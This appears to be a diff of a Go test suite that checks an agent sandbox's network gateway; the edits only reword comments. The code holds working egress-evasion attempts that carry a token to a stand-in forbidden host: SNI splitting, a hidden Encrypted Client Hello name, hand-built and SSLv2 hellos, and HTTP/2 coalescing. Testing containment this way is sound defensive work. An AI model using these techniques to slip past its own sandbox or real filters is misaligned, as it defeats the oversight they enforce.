@@ -17,8 +17,8 @@ import (
 	"github.com/agent-sessionizer/agent-sessionizer/test/escape/plan"
 )
 
-// overTLS are techniques that get to a shared address by an allowed name and
-// ask there for another one.
+// overTLS are the techniques that reach a shared address through an allowed name and
+// request another name there.
 func overTLS() map[string]func(*attempt) {
 	evil := func(a *attempt) string { return a.token + "." + plan.EvilCDN }
 	hand := func(hello func(a *attempt) []byte) func(*attempt) {
@@ -81,7 +81,8 @@ func overTLS() map[string]func(*attempt) {
 	}
 }
 
-// tlsClient connects and shakes hands; the pretend internet signs for itself.
+// tlsClient connects and performs the handshake. It verifies no certificate, because
+// the pretend internet signs its own.
 func (a *attempt) tlsClient(name string, port int, config *tls.Config) (*tls.Conn, error) {
 	raw, err := a.connect(name, port)
 	if err != nil {
@@ -92,7 +93,7 @@ func (a *attempt) tlsClient(name string, port int, config *tls.Config) (*tls.Con
 
 func handshake(raw net.Conn, config *tls.Config) (*tls.Conn, error) {
 	config.InsecureSkipVerify = true
-	_ = raw.SetDeadline(time.Now().Add(connectTime)) // an error shows in the handshake
+	_ = raw.SetDeadline(time.Now().Add(connectTime)) // the handshake reports an error
 	c := tls.Client(raw, config)
 	if err := c.Handshake(); err != nil {
 		raw.Close()
@@ -101,7 +102,7 @@ func handshake(raw net.Conn, config *tls.Config) (*tls.Conn, error) {
 	return c, nil
 }
 
-// dribble writes one byte at a time, each in a segment of its own.
+// dribble writes one byte at a time, each in its own segment.
 type dribble struct{ *net.TCPConn }
 
 func (d dribble) Write(b []byte) (int, error) {
@@ -129,7 +130,7 @@ func sniSplit(a *attempt) {
 	a.overTLS(c, plan.EvilCDN, "/"+a.token)
 }
 
-// echInner asks for the forbidden name where only the server can read it.
+// echInner puts the forbidden name where only the server can read it.
 func echInner(a *attempt) {
 	c, err := a.tlsClient(plan.Allowed, 443, &tls.Config{
 		ServerName: plan.EvilCDN, MinVersion: tls.VersionTLS13, EncryptedClientHelloConfigList: a.ech,
@@ -144,7 +145,7 @@ func echInner(a *attempt) {
 	a.overTLS(c, plan.EvilCDN, "/"+a.token)
 }
 
-// clientHello is a hello as no library makes it.
+// clientHello is a hello that no library would make.
 type clientHello struct {
 	names       []string
 	kind        byte // of the names; 0 is a host name
@@ -194,7 +195,7 @@ func (h clientHello) message() []byte {
 	return append([]byte{1, byte(n >> 16), byte(n >> 8), byte(n)}, body...)
 }
 
-// record is the message in as few records as it needs.
+// record returns the message in as few records as possible.
 func (h clientHello) record() []byte {
 	var out []byte
 	for m := h.message(); len(m) > 0; {
@@ -216,13 +217,13 @@ func sniExtension(name string) []byte {
 	return extension(0, append(binary.BigEndian.AppendUint16(b, uint16(len(name))), name...))
 }
 
-// echOuter has the form of an encrypted hello; what is in it only looks random.
+// echOuter has the form of an encrypted hello; its content only looks random.
 func echOuter(token string) []byte {
 	b := append([]byte{0, 0, 1, 0, 1, 42, 0, 32}, make([]byte, 32)...)
 	return append(binary.BigEndian.AppendUint16(b, uint16(len(token))), token...)
 }
 
-// ssl2 is a hello of before TLS, which has no place for a name.
+// ssl2 returns a hello from before TLS, which has no field for a name.
 func ssl2(token string) []byte {
 	challenge := []byte(fmt.Sprintf("%-32.32s", token))
 	b := []byte{1, 3, 1, 0, 6, 0, 0, 0, byte(len(challenge)), 0, 0, 0x2f, 0, 0, 0x35}
@@ -230,8 +231,8 @@ func ssl2(token string) []byte {
 	return append([]byte{0x80 | byte(len(b)>>8), byte(len(b))}, b...)
 }
 
-// limits are what no wall can stop. They are tried to see that they reach what
-// the security model says, and no more.
+// limits are techniques that no gateway can stop. They are tried to check that they
+// reach only what the security model says.
 func limits() map[string]func(*attempt) {
 	return map[string]func(*attempt){
 		"limit-upload": func(a *attempt) {
@@ -251,8 +252,8 @@ func limits() map[string]func(*attempt) {
 	}
 }
 
-// coalesce asks for a second authority on one HTTP/2 connection, as browsers do
-// when a certificate covers it.
+// coalesce requests a second authority on one HTTP/2 connection, as browsers do when
+// a certificate covers it.
 func coalesce(a *attempt) {
 	c, err := a.tlsClient(plan.Allowed, 443, &tls.Config{ServerName: plan.Allowed, NextProtos: []string{"h2"}})
 	if err != nil {
@@ -260,7 +261,7 @@ func coalesce(a *attempt) {
 		return
 	}
 	defer c.Close()
-	once := make(chan net.Conn, 1) // the one connection that there is
+	once := make(chan net.Conn, 1) // the only connection
 	once <- c
 	close(once)
 	client := http.Client{Timeout: connectTime, Transport: &http.Transport{
@@ -278,7 +279,7 @@ func coalesce(a *attempt) {
 			say("h2: %v", err)
 			return
 		}
-		req.Host = host // goes out as :authority
+		req.Host = host // sent as :authority
 		resp, err := client.Do(req)
 		if err != nil {
 			say("h2 %s: %v", host, err)
